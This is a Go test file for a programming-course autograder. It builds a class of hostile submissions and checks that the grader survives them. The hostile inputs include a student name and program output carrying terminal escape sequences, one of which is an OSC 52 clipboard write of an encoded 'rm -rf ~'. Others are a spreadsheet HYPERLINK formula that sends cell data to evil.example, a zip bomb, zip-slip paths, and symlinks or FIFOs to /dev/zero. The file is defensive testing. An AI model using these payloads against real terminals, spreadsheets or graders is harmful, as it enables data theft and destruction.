//go:build unix

package grade

import (
	"archive/zip"
	"bytes"
	"context"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"
	"unicode/utf8"
)

// evilName is a student's name (the folder's) that, printed raw, would set the reader's clipboard
// (OSC 52), clear the screen and ring the bell.
const evilName = "\x1b]52;c;cm0gLXJmIH4=\x07\x1b[2JЗлодей"

// evilProgram prints, to stdout, a formula a spreadsheet would follow and terminal controls, and
// half a MiB to stderr (under the run's output limit, far over what a report keeps), in every case.
const evilProgram = `package main

import (
	"fmt"
	"os"
	"strings"
)

func main() {
	fmt.Println("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")")
	fmt.Println("\x1b]52;c;cm0gLXJmIH4=\x07\x1b[2J\u009b31m\u202eboom")
	os.Stderr.WriteString(strings.Repeat("\x1b[31mnoise\n", 1<<19/11))
}
`

// makeHostileClass writes a class in which every honest student hands in the reference solution,
// next to submissions that attack the grader: a FIFO and a link to /dev/zero named zz.go in a
// folder, a folder holding only such entries, a zip bomb whose headers lie, a zip with ../ names,
// a zip with a symbolic-link entry and a name given twice, and a program whose name and output are
// full of controls and formulas.
func makeHostileClass(t *testing.T) string {
	t.Helper()
	dir := t.TempDir()
	sol := courseFile(t, "solutions/exercise-deadline/bg/main.go")
	write := func(name string, data []byte) {
		p := filepath.Join(dir, filepath.FromSlash(name))
		os.MkdirAll(filepath.Dir(p), 0o755)
		if err := os.WriteFile(p, data, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	zipOf := func(name string, entries func(zw *zip.Writer)) {
		var buf bytes.Buffer
		zw := zip.NewWriter(&buf)
		entries(zw)
		zw.Close()
		write(name, buf.Bytes())
	}
	write("honest1/main.go", sol)
	write("honest2/hw/main.go", courseFile(t, "solutions/exercise-deadline/ru/main.go"))
	zipOf("honest3.zip", func(zw *zip.Writer) { w, _ := zw.Create("hw/main.go"); w.Write(sol) })

	// A correct program with a FIFO and a link to /dev/zero beside it: graded, the two named.
	write("fifo/main.go", sol)
	if err := syscall.Mkfifo(filepath.Join(dir, "fifo", "zz.go"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("/dev/zero", filepath.Join(dir, "fifo", "zero.go")); err != nil {
		t.Fatal(err)
	}
	// Nothing but a link: no program.
	os.MkdirAll(filepath.Join(dir, "linkonly"), 0o755)
	if err := os.Symlink("/dev/zero", filepath.Join(dir, "linkonly", "main.go")); err != nil {
		t.Fatal(err)
	}
	write(evilName+"/main.go", []byte(evilProgram))
	write(`=HYPERLINK("evil.example","x")/main.go`, sol)

	// A zip bomb: its header says 10 bytes, its data unpacks to 21 MiB.
	zipOf("bomb.zip", func(zw *zip.Writer) {
		w, _ := zw.CreateHeader(&zip.FileHeader{Name: "main.go", Method: zip.Deflate})
		w.Write(make([]byte, int(DefaultReadLimits.Bytes)+1<<20))
	})
	zipOf("slip.zip", func(zw *zip.Writer) {
		w, _ := zw.Create("main.go")
		w.Write(sol)
		w, _ = zw.Create("../../../evil.go")
		w.Write([]byte("package main"))
	})
	zipOf("twice.zip", func(zw *zip.Writer) {
		h := &zip.FileHeader{Name: "zz.go"}
		h.SetMode(os.ModeSymlink | 0o777)
		w, _ := zw.CreateHeader(h)
		w.Write([]byte("/dev/zero"))
		w, _ = zw.Create("main.go")
		w.Write(sol)
		w, _ = zw.Create("MAIN.go")
		w.Write([]byte("package main\n\nfunc main() {}\n"))
	})
	zipOf("symlink.zip", func(zw *zip.Writer) {
		h := &zip.FileHeader{Name: "zz.go"}
		h.SetMode(os.ModeSymlink | 0o777)
		w, _ := zw.CreateHeader(h)
		w.Write([]byte("/dev/zero"))
		w, _ = zw.Create("main.go")
		w.Write(sol)
	})
	return dir
}

// rawControl reports the first control character (other than newline and tab), DEL, C1 control,
// bidirectional override or invalid UTF-8 in data, or -1.
func rawControl(data []byte) int {
	for i := 0; i < len(data); {
		r, n := utf8.DecodeRune(data[i:])
		switch {
		case r == utf8.RuneError && n <= 1, r < 0x20 && r != '\n' && r != '\t', r == 0x7f, r >= 0x80 && r <= 0x9f,
			r >= 0x202a && r <= 0x202e, r >= 0x2066 && r <= 0x2069:
			return i
		}
		i += n
	}
	return -1
}

func TestHostileClass(t *testing.T) {
	if testing.Short() {
		t.Skip("builds and runs a class of programs")
	}
	t.Parallel() // grades a class of its own
	class := makeHostileClass(t)
	out := filepath.Join(t.TempDir(), "report")
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
	defer cancel()
	job := deadlineJob(t)
	rep, outcome, err := Run(ctx, job, class, out)
	if err != nil {
		t.Fatal(err)
	}
	if err := Write(out, rep, "en"); err != nil {
		t.Fatal(err)
	}
	if outcome.Graded != 11 {
		t.Errorf("graded %d students, want 11", outcome.Graded)
	}
	type want struct {
		status  string
		verdict string
		skipped []SkippedEntry
	}
	wants := map[string]want{
		"honest1":                        {StatusPass, "pass", nil},
		"honest2":                        {StatusPass, "pass", nil},
		"honest3":                        {StatusPass, "pass", nil},
		`=HYPERLINK("evil.example","x")`: {StatusPass, "pass", nil},
		"fifo":                           {StatusPass, "pass", []SkippedEntry{{"zero.go", SkipSymlink}, {"zz.go", SkipFIFO}}},
		"linkonly":                       {StatusError, "no_program", []SkippedEntry{{"main.go", SkipSymlink}}},
		evilName:                         {StatusFail, "fail", nil},
		"bomb":                           {StatusError, "bad_archive", nil},
		"slip":                           {StatusError, "bad_archive", nil},
		"twice":                          {StatusError, "bad_archive", nil},
		"symlink":                        {StatusPass, "pass", []SkippedEntry{{"zz.go", SkipSymlink}}},
	}
	seen := map[string]bool{}
	for _, st := range rep.Students {
		seen[st.Name] = true
		w, ok := wants[st.Name]
		if !ok {
			t.Errorf("unexpected student %q", st.Name)
			continue
		}
		if st.Status != w.status || string(st.Result.Verdict) != w.verdict {
			t.Errorf("%q: %s (%s %s %s), want %s (%s)", st.Name, st.Status, st.Result.Verdict, st.Result.Message, st.Result.BuildLog, w.status, w.verdict)
		}
		if len(st.Skipped) != len(w.skipped) || len(w.skipped) > 0 && !equalSkipped(st.Skipped, w.skipped) {
			t.Errorf("%q: skipped %+v, want %+v", st.Name, st.Skipped, w.skipped)
		}
		if st.Name == evilName {
			for _, c := range st.Result.Cases {
				if len(c.Stderr) > maxKept+200 || !strings.Contains(c.Stderr, "[workbook: cut here") {
					t.Errorf("%s: stderr of %d bytes kept, want at most %d with a note", c.Name, len(c.Stderr), maxKept)
				}
			}
		}
	}
	for name := range wants {
		if !seen[name] {
			t.Errorf("%q is not in the report", name)
		}
	}
	if _, err := os.Stat(filepath.Join(filepath.Dir(class), "evil.go")); err == nil {
		t.Errorf("the zip-slip entry was written outside")
	}

	// No file of the report holds a raw control character, and none is swollen by the flood. A capped
	// report keeps at most maxKept of the flood per case (about three times that once JSON escapes its
	// controls); an uncapped one would hold the whole half MiB of every case, so the bound grows with
	// the exercise's cases.
	swollen := 4 << 20
	for _, st := range rep.Students {
		swollen = max(swollen, len(st.Result.Cases)*5*maxKept)
	}
	filepath.WalkDir(out, func(p string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() || strings.HasSuffix(p, ".lock") {
			return err
		}
		data, err := os.ReadFile(p)
		if err != nil {
			t.Fatal(err)
		}
		if i := rawControl(data); i >= 0 {
			t.Errorf("%s holds a raw control character at %d: %q", p, i, data[max(0, i-20):min(len(data), i+20)])
		}
		if len(data) > swollen {
			t.Errorf("%s is %d bytes: the flood was not capped", p, len(data))
		}
		return nil
	})
	csv, _ := os.ReadFile(filepath.Join(out, GradesFile))
	for _, s := range []string{`"'=HYPERLINK(""evil.example"",""x"")"`, `\x1b]52;c;cm0gLXJmIH4=\x07\x1b[2JЗлодей`} {
		if !bytes.Contains(csv, []byte(s)) {
			t.Errorf("grades.csv has no %s:\n%s", s, csv)
		}
	}
	fb, err := os.ReadFile(filepath.Join(out, FeedbackDir, rep.Feedback["fifo"]))
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range []string{"2 елемента от предаденото са пропуснати", "`zz.go` (именуван канал)", "`zero.go` (символна връзка)"} {
		if !bytes.Contains(fb, []byte(s)) {
			t.Errorf("fifo's feedback has no %q:\n%s", s, fb)
		}
	}
}

func equalSkipped(a, b []SkippedEntry) bool {
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}
